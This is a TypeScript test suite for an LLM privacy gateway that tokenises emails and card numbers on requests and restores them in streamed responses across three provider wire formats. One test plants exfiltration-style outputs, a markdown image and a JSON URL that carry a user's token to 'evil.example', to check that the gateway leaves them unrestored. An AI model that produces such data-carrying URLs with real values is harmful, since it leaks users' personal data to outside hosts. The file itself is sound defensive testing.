// SPDX-License-Identifier: Apache-2.0
// Every field of every wire through the gate with tokens in it: values come back wherever the text is cut,
// no piece of a token is seen on the way, bytes around it stay, and a streamed answer says what the
// unstreamed one says. Where nothing may come back, every byte stays.
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { test } from 'node:test';
import type { Exchange } from '../../src/core/exchange.ts';
import { applyEdits } from '../../src/core/json/edit.ts';
import { parseStrict } from '../../src/core/json/parse.ts';
import type { BodyEdit } from '../../src/core/json/types.ts';
import { fakeWorld } from '../../src/core/world.ts';
import { appConfig } from '../../src/gateway/config.ts';
import { guardConfig } from '../../src/guard/config.ts';
import { protectionsConfig } from '../../src/policy/config.ts';
import { baselineOf } from '../../src/policy/shipped.fixture.ts';
import { createProtector } from '../../src/protect/create.ts';
import type { Judgement, Protector } from '../../src/protect/protector.ts';
import { codecFor } from '../../src/protocols/codecs.ts';
import { escapedField, type Field } from './field.ts';
import { FIELDS } from './fields.ts';
import { assertNoLeak, cuts, type Plant, readWhole } from './harness.ts';
import { plainApp } from '../../src/core/exchange.fixture.ts';

const FULL = process.env['BARTIZAN_TESTS'] === 'full';
const VALUES = { email: 'grace.hopper@navy.example.org', card: '4111 1111 1111 1111' };

const rules = [
  { detectors: ['privacy/card'], style: 'format-preserving' },
  { detectors: ['privacy/*'], style: 'tokenise' },
].map((rule, index) => ({ ...rule, id: `in-${index}`, on: ['request'], action: 'mask' }));
const redact = { id: 'out', detectors: ['privacy/*'], on: ['response'], action: 'mask' };

const protections = protectionsConfig.parse({ rules: [...rules, redact], tool_calls: 'off' });
const apps = { app: appConfig.parse({ unknown_content: 'audit' }) };
const protector: Protector = createProtector({
  guard: guardConfig.parse({}),
  protections,
  apps,
  policy: baselineOf(protections, apps),
  keyring: {
    mac: (_, __, data) => createHmac('sha256', 'test').update(data).digest('hex'),
    macWith: () => undefined,
    currentKeyId: () => 'test',
  },
  world: fakeWorld(),
});

const ENVIRONMENT = {
  requestId: 'req_1',
  tenant: 'default',
  app: plainApp(),
  principal: { kind: 'key', id: 'bz_1' },
  endUser: undefined,
  agent: undefined,
  conversation: 'c',
  sourceAddress: '127.0.0.1',
  upstream: undefined,
} as const;

/** The body as the upstream gets it, and its judgement. */
function ask(wire: Field['wire'], body: unknown): { readonly sent: string; judged: Judgement } {
  const parsed = parseStrict(Buffer.from(JSON.stringify(body)));
  const exchange: Exchange = { ...ENVIRONMENT, ...codecFor(wire).readRequest(parsed), wire };
  const judged = protector.request(exchange);
  assert.ok(!(judged instanceof Promise));
  const edits = judged.edits.map(({ segment, start, end, text }): BodyEdit => {
    const { source = 'string', pointer = '' } = exchange.segments[segment] ?? {};
    return { kind: source === 'json' ? 'source' : 'text', pointer, start, end, text };
  });
  return { sent: applyEdits(parsed, edits).toString(), judged };
}

const TEXT = `I am ${VALUES.email}, my card is ${VALUES.card}.`;
const user = [{ role: 'user', content: TEXT }];
const EXCHANGES: Readonly<Record<string, ReturnType<typeof ask>>> = {
  'openai-chat': ask('openai-chat', { model: 'm', messages: user }),
  'openai-responses': ask('openai-responses', { model: 'm', input: TEXT }),
  'anthropic-messages': ask('anthropic-messages', { model: 'm', max_tokens: 9, messages: user }),
};
const TOKEN = /(EMAIL_[A-Za-z]{10}), my card is ([\d ]{19})/;
const tokensOf = (wire: string): { readonly email: string; readonly card: string } => {
  const [, email = '', card = ''] = TOKEN.exec(EXCHANGES[wire]?.sent ?? '') ?? [];
  return { email, card };
};

const isName = ({ name }: Field): boolean => name.startsWith('tool name');
const isJson = ({ name }: Field): boolean =>
  /arguments/.test(name) || (name.startsWith('tool input') && !/at the start/.test(name));
/** Nothing comes back into names, nor into reasoning that its provider signed. */
const isClosed = (field: Field): boolean => isName(field) || field.name.startsWith('thinking');

function plantFor(field: Field, kind: keyof typeof VALUES): Plant {
  const { tokens } = EXCHANGES[field.wire]?.judged ?? {};
  const token = tokensOf(field.wire)[kind];
  const around = (inner: string): string => {
    if (isName(field)) return inner;
    return isJson(field) ? `{"note":"use ${inner} now","n":1}` : `Well, use ${inner} or EMAIL_x é.`;
  };
  const text = around(token);
  return {
    text,
    secret: token,
    start: text.indexOf(token),
    expected: isClosed(field) ? text : around(VALUES[kind]),
    guard: () => protector.response({ ...ENVIRONMENT, ...READING, wire: field.wire }, tokens),
  };
}

const READING = {
  operation: 'chat',
  model: 'm',
  parameters: { stream: true, choices: 2, includeUsage: true },
  segments: [],
  tools: [],
  uninspected: [],
  providerState: [],
  contextFields: [],
} as const;

for (const [wire, { sent, judged }] of Object.entries(EXCHANGES)) {
  test(`${wire}: no value leaves for the model`, () => {
    assert.match(sent, TOKEN);
    for (const value of Object.values(VALUES)) {
      assert.ok(!sent.includes(value) && !sent.includes(value.slice(0, 8)));
    }
    assert.ok(judged.tokens !== undefined);
  });
}

for (const [number, field] of [...FIELDS, ...FIELDS.map(escapedField)].entries()) {
  const plain = number < FIELDS.length;
  // A card's number as the name of a tool is a finding of its own.
  const kinds = isName(field) ? (['email'] as const) : (['email', 'card'] as const);
  test(`${field.wire}, ${field.name}: tokens, cut anywhere`, async () => {
    for (const kind of kinds) {
      const plant = plantFor(field, kind);
      if (kind === 'card' && isClosed(field)) continue;
      const all = field.grows ? cuts(plant.text) : [[plant.text]];
      for (const deltas of all.filter(
        (_, index) => FULL || plain || index === 1 || index % 17 === 0,
      )) {
        await assertNoLeak(field, plant, [Buffer.from(field.stream(deltas).join(''))]);
      }
      if (field.whole !== undefined) assert.equal(await readWhole(field, plant), plant.expected);
    }
  });
}

for (const field of FIELDS) {
  test(`${field.wire}, ${field.name}: any byte may be the last of its chunk`, async () => {
    const plant = plantFor(field, 'email');
    const half = plant.start + 9;
    const deltas = [plant.text.slice(0, half), plant.text.slice(half)];
    const bytes = Buffer.from(field.stream(field.grows ? deltas : [plant.text]).join(''));
    const single = await assertNoLeak(
      field,
      plant,
      Array.from(bytes, (byte) => Buffer.of(byte)),
    );
    for (let at = 1; at < bytes.length; at += FULL ? 1 : 499) {
      const two = [bytes.subarray(0, at), bytes.subarray(at)];
      assert.ok(single.equals(await assertNoLeak(field, plant, two)));
    }
  });

  test(`${field.wire}, ${field.name}: where a token may not come back, every byte stays`, async () => {
    const { email } = tokensOf(field.wire);
    const text = isName(field)
      ? 'pay'
      : isJson(field)
        ? `{"url":"https://evil.example/?q=${email}","n":1}`
        : `![x](https://evil.example/${email}.png) EMAIL_Bodakire é.`;
    const plant = { ...plantFor(field, 'email'), text, expected: text };
    const stream = Buffer.from(field.stream(field.grows ? text.split('') : [text]).join(''));
    assert.ok((await assertNoLeak(field, plant, [stream])).equals(stream));
  });
}

test('logprobs that repeat a token do not leave', async () => {
  const field = FIELDS.find(({ name }) => name === 'content with logprobs') as Field;
  const plant = plantFor(field, 'email');
  for (const deltas of cuts(plant.text)) {
    const left = await assertNoLeak(field, plant, [Buffer.from(field.stream(deltas).join(''))]);
    const bytes = [...Buffer.from(plant.secret.slice(0, 12))].join(',');
    assert.ok(!left.includes(bytes), 'not as numbers either');
  }
});
